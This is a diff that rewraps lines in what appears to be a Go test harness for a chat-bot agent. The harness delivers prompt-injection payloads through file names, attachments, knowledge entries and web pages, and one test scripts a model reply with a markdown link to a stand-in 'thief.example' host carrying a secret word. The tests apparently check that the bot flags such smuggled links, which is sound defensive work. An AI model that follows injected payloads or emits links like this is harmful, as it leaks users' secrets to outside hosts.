@@ -164,7 +164,8 @@ func (l *lair) settle(done <-chan string) (asked int) {
 		var open struct{ Items []struct{ ID string } }
 		l.bot.call(http.MethodGet, "/api/v1/approvals", nil, &open)
 		for _, a := range open.Items {
-			if l.bot.call(http.MethodPost, "/api/v1/approvals/"+a.ID, map[string]string{"decision": "deny"}, nil) == http.StatusOK {
+			if l.bot.call(http.MethodPost, "/api/v1/approvals/"+a.ID, map[string]string{"decision": "deny"},
+				nil) == http.StatusOK {
 				asked++
 			}
 		}
@@ -223,7 +224,8 @@ func (l *lair) write(path, text string) {
 
 func html(body string) []byte {
 	return []byte("<html><head><title>News</title></head><body><main><article><h1>News</h1>" +
-		strings.Repeat("<p>Ravens are clever birds that remember faces for years.</p>", 8) + body + "</article></main></body></html>")
+		strings.Repeat("<p>Ravens are clever birds that remember faces for years.</p>",
+			8) + body + "</article></main></body></html>")
 }
 
 // carriers bring a payload to the model, each in another way.
@@ -255,12 +257,14 @@ func (l *lair) carriers() map[string]func(payload string) int {
 		"name of a file": func(p string) int {
 			name := strings.ReplaceAll(p, "/", "_") + ".txt"
 			return l.onDiscord(func(channel string) {
-				l.discord.Say(channel, l.anna, mention("look at this"), simdiscord.Attach(simdiscord.File{Name: name, ContentType: "text/plain", Body: []byte("nothing")}))
+				l.discord.Say(channel, l.anna, mention("look at this"),
+					simdiscord.Attach(simdiscord.File{Name: name, ContentType: "text/plain", Body: []byte("nothing")}))
 			})
 		},
 		"attached file": func(p string) int {
 			return l.onDiscord(func(channel string) {
-				l.discord.Say(channel, l.anna, mention("look at this"), simdiscord.Attach(simdiscord.File{Name: "note.txt", ContentType: "text/plain", Body: []byte(p)}))
+				l.discord.Say(channel, l.anna, mention("look at this"),
+					simdiscord.Attach(simdiscord.File{Name: "note.txt", ContentType: "text/plain", Body: []byte(p)}))
 			})
 		},
 		"knowledge": func(p string) int {
@@ -429,7 +433,8 @@ func TestAnswer_NamesHostsOfLinksThatNobodyGave(t *testing.T) {
 	smuggled := "[more](" + given + ") and [the source](https://thief.example/?q=" + secretWord + ")"
 	l.model.SetScript(func(r simmodel.Request) simmodel.Reply {
 		if strings.Contains(r.Asked(), "read") && len(r.Last().Results) == 0 {
-			return simmodel.Reply{Calls: []simmodel.Call{{Name: "web_fetch", Args: must(json.Marshal(map[string]string{"url": page}))}}}
+			return simmodel.Reply{Calls: []simmodel.Call{{Name: "web_fetch",
+				Args: must(json.Marshal(map[string]string{"url": page}))}}}
 		}
 		return simmodel.Say(smuggled)
 	})
@@ -439,7 +444,8 @@ func TestAnswer_NamesHostsOfLinksThatNobodyGave(t *testing.T) {
 		post, err := l.slack.WaitPost(deadline(t), l.world.channel.ID, func(p simslack.Post) bool {
 			return p.ThreadTS == said.TS && strings.Contains(p.Shown(), "the source")
 		})
-		if err != nil || strings.Contains(string(post.Blocks), note) != want || strings.Contains(string(post.Blocks), "lead to 127") {
+		if err != nil || strings.Contains(string(post.Blocks), note) != want ||
+			strings.Contains(string(post.Blocks), "lead to 127") {
 			t.Errorf("to %q: %s, %v", words, post.Blocks, err)
 		}
 	}
